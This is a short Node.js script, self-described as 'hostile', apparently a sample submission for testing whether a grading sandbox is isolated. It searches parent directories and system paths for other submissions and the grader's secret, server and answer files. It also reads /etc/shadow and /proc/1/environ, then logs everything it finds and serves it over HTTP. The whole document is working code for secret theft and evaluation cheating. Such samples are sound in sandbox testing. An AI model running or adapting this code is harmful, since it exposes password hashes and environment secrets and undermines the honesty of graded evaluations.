// Hostile: looks for other submissions beside its own folder and for the
// grader's files, and serves whatever it could read.
const fs = require('fs');
const http = require('http');
const found = [];
for (const p of ['..', '../..', '/work', '/root', '/home', '/tmp', '/etc/shadow', '/proc/1/environ']) {
  try {
    const st = fs.statSync(p);
    if (st.isDirectory()) {
      for (const name of fs.readdirSync(p)) {
        for (const f of ['secret.txt', 'server.js', 'answers.md']) {
          try { found.push(p + '/' + name + '/' + f + ': ' + fs.readFileSync(p + '/' + name + '/' + f, 'utf8')); } catch (e) {}
        }
      }
    } else {
      found.push(p + ': ' + fs.readFileSync(p, 'utf8'));
    }
  } catch (e) {
    console.error('cannot read ' + p + ': ' + e.code);
  }
}
console.log('found: ' + JSON.stringify(found));
http.createServer((req, res) => res.end(JSON.stringify(found))).listen(process.env.PORT);
